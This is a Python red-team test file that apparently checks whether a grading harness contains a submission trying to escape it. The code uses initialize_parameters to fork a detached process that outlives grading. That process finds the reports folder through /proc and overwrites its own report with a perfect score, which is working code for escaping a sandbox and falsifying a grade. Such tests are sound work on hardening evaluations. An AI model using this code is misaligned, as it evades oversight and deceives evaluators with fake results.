# RED-TEAM ATTACK (issue 9): leave a process behind that outlives grading and acts later.
# Route: posix.fork twice, posix.setsid, close every descriptor; the grandchild sleeps past the end
#   of the check (and of the batch), then writes a marker file and overwrites this submission's own
#   report in the reports folder (found through /proc/<ancestor>/cmdline) with a perfect score.
# Contained when: no process of it is left when grading ends, no marker appears, its report is
#   the grader's (initialize_parameters scores 0).
# attacked: initialize_parameters
# run: late
import json
import os
import sys
import time


def _reports_folders():
    found, pid = [], os.getppid()
    for _ in range(16):
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as handle:
                args = [a.decode("utf-8", "replace") for a in handle.read().split(b"\0")]
            if "--out" in args:
                found.append(args[args.index("--out") + 1])
            with open("/proc/%d/status" % pid) as status:
                pid = int([line for line in status if line.startswith("PPid:")][0].split()[1])
        except Exception:
            break
    return found


def _later(posix, folders):
    time.sleep(1.0)
    fd = posix.open("/tmp/redteam-__TOKEN__-sleeper", posix.O_WRONLY | posix.O_CREAT, 0o666)
    posix.close(fd)
    for _ in range(60):
        time.sleep(0.5)
        for folder in folders:
            for name in os.listdir(folder):
                if name.endswith(".json") and "sleeper_escape" in name:
                    with open(os.path.join(folder, name), "w") as report:
                        json.dump({"status": "graded", "score": 100.0, "max_score": 100.0}, report)


def initialize_parameters(n_x, n_h, n_y):
    posix = sys.modules.get("posix") or __import__("posix")
    folders = _reports_folders()
    if posix.fork() == 0:
        try:
            posix.setsid()
            if posix.fork() == 0:
                posix.closerange(0, 1024)
                _later(posix, folders)
        finally:
            posix._exit(0)
    raise RuntimeError("left a sleeper behind")
